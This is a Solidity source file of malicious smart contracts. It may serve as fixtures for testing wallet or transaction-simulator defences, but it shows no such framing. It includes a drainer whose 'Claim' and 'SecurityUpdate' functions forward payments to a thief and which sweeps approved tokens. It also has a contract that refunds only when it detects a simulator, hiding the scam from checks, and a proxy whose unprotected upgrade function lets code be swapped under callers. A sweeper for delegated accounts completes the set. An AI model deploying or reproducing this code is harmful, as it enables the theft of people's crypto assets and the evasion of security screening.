// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

import "./Tokens.sol";

/// Takes what is sent along with a promise.
contract Drainer {
    address payable public immutable thief;

    constructor(address payable thief_) {
        thief = thief_;
    }

    function Claim() external payable {
        thief.transfer(msg.value);
    }

    function SecurityUpdate() external payable {
        thief.transfer(msg.value);
    }

    /// Takes tokens that were approved.
    function collect(Token[] calldata tokens, address from) external {
        for (uint256 i = 0; i < tokens.length; i++) {
            uint256 value = tokens[i].balanceOf(from);
            uint256 allowed = tokens[i].allowance(from, address(this));
            tokens[i].transferFrom(from, thief, value < allowed ? value : allowed);
        }
    }
}

/// Pays back a reward when it is simulated and keeps the money when it is not:
/// simulators give themselves away by a coinbase that is nobody's, by blocks
/// without a fee, and by a clock that stands at the last block.
contract TwoFaced {
    uint256 public immutable born = block.timestamp;

    constructor() payable {}

    function claim() external payable {
        bool watched = block.coinbase == address(0) || block.basefee == 0 ||
            block.timestamp < born + 120;
        if (watched) {
            (bool ok, ) = msg.sender.call{value: msg.value + 0.1 ether}("");
            require(ok);
        }
    }

    /// The same by the parity of the block: one of two environments sees it.
    function play() external payable {
        if (block.number % 2 == born % 2 || block.prevrandao > type(uint256).max / 2) {
            (bool ok, ) = msg.sender.call{value: msg.value + 0.1 ether}("");
            require(ok);
        }
    }
}

/// Calls back into whoever pays it, and hides a failure.
contract Reentrant {
    function enter(Market1 target) external payable {
        (bool ok, ) = address(target).call{value: msg.value}(abi.encodeCall(Market1.deposit, ()));
        ok; // swallowed
    }
}

interface Market1 {
    function deposit() external payable;
}

contract Refuser {
    function deposit() external payable {
        revert("closed");
    }
}

/// A proxy whose owner changes the code under the caller.
contract Proxy {
    // EIP-1967
    bytes32 private constant SLOT =
        0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;

    constructor(address code) {
        assembly {
            sstore(SLOT, code)
        }
    }

    function upgradeTo(address code) public {
        assembly {
            sstore(SLOT, code)
        }
    }

    fallback() external payable {
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), sload(SLOT), 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok
            case 0 {
                revert(0, returndatasize())
            }
            default {
                return(0, returndatasize())
            }
        }
    }
}

/// A game that replaces a proxy's code inside the call.
contract Swapper {
    function play(Proxy proxy, address code) external {
        proxy.upgradeTo(code);
    }
}

/// Code that a delegation hands an account to.
contract Sweeper {
    address payable public immutable thief;

    constructor(address payable thief_) {
        thief = thief_;
    }

    function sweep(Token token) external {
        token.transfer(thief, token.balanceOf(address(this)));
        thief.transfer(address(this).balance);
    }
}
